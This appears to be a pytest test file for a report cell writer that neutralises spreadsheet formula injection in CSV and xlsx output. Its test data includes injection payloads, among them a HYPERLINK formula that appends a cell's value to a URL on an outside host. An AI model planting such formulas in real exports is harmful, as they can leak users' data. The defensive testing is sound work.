"""reports.cells, the one cell writer: text stays text (never a formula), numbers and dates stay numbers and dates."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from reports import cells

TYPED = ['=HYPERLINK("http://a.cn/?"&C2,"郭志红")', "=1+1", "+1+1", "-2+3", "@SUM(A1)", "-", "=", "#N/A",
         "\t=1+1", "'=1+1"]  # (an .xlsx reads a \r back as \n: XML)


@pytest.mark.parametrize(("value", "field"), [
    ('=HYPERLINK("http://a.cn/?"&C2,"郭志红")', '\'=HYPERLINK("http://a.cn/?"&C2,"郭志红")'),
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"), ("-", "'-"), ("+86 139", "'+86 139"),
    ("-3.5", "-3.5"), ("+2", "+2"), ("1E+3", "1E+3"), ("-.5", "-.5"),  # text that is a number: a number
    (Decimal("-3.5"), "-3.5"), (-7, "-7"), (Decimal("12.50"), "12.50"), (0, "0"),
    ("郭志红", "郭志红"), ("a=b", "a=b"), ("", ""), (None, ""),
])
def test_a_csv_field_a_spreadsheet_would_run_gets_a_leading_quote_and_a_number_never(value, field):
    assert cells.csv_field(value) == field


def test_write_csv_reads_back_as_written_with_each_formula_quoted():
    out = io.StringIO()
    cells.write_csv(out, [["姓名", "得分"], ["=1+1张三", Decimal("-2.5")], ["李四", None]])
    assert out.getvalue() == "姓名,得分\r\n'=1+1张三,-2.5\r\n李四,\r\n"
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["姓名", "得分"], ["'=1+1张三", "-2.5"], ["李四", ""]]


def _sheets_xml(data: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]


@pytest.mark.parametrize("write_only", [False, True], ids=["workbook", "write-only"])
def test_text_is_stored_as_text_and_numbers_and_dates_as_themselves(write_only):
    book = openpyxl.Workbook(write_only=write_only)
    ws = book.create_sheet("表") if write_only else book.active
    cells.append(ws, TYPED)
    cells.append(ws, [1, -3, Decimal("-2.50"), 2.5, dt.date(2025, 3, 2), None, True, "郭志红\x07"])
    cells.append(ws, [cells.cell(ws, "=1+1", number_format="@"), Decimal("NaN")])
    out = io.BytesIO()
    book.save(out)
    data = out.getvalue()
    assert not any(re.search(rb"<f[\s>/]", xml) for xml in _sheets_xml(data))
    loaded = openpyxl.load_workbook(io.BytesIO(data)).worksheets[-1]
    first, second, third = (list(row) for row in loaded.iter_rows(max_row=3))
    assert [c.value for c in first] == TYPED and {c.data_type for c in first} == {"s"}  # #N/A too: not an error
    assert [c.value for c in second[:5]] == [1, -3, -2.5, 2.5, dt.datetime(2025, 3, 2)]
    assert [c.data_type for c in second[:5]] == ["n", "n", "n", "n", "d"]
    assert second[6].value is True and second[7].value == "郭志红"  # a control character Excel cannot hold, dropped
    assert (third[0].value, third[0].data_type, third[1].value) == ("=1+1", "s", "NaN")


def test_put_writes_text_over_a_cell_as_text():
    book = openpyxl.Workbook()
    ws = book.active
    assert cells.put(ws, 2, 3, "=SUM(A1:A9)").data_type == "s"
    assert cells.put(ws, 2, 4, Decimal("-1")).data_type == "n"
    assert cells.put(ws, 2, 3, None).value is None
    out = io.BytesIO()
    book.save(out)
    assert not any(b"<f" in xml for xml in _sheets_xml(out.getvalue()))


def test_sheet_xml_holds_text_as_an_inline_string_and_only_digits_as_a_number():
    assert cells.text_xml("A2", "", "=1+1<b>") == \
        '<c r="A2" t="inlineStr"><is><t xml:space="preserve">=1+1&lt;b&gt;</t></is></c>'
    assert cells.text_xml("A2", "", "\x01") == ""
    assert cells.number_xml("B2", ' s="3"', "-12.5") == '<c r="B2" s="3"><v>-12.5</v></c>'
    for bad in ("1+1", "=1", "", "NaN"):
        with pytest.raises(ValueError):
            cells.number_xml("B2", "", bad)
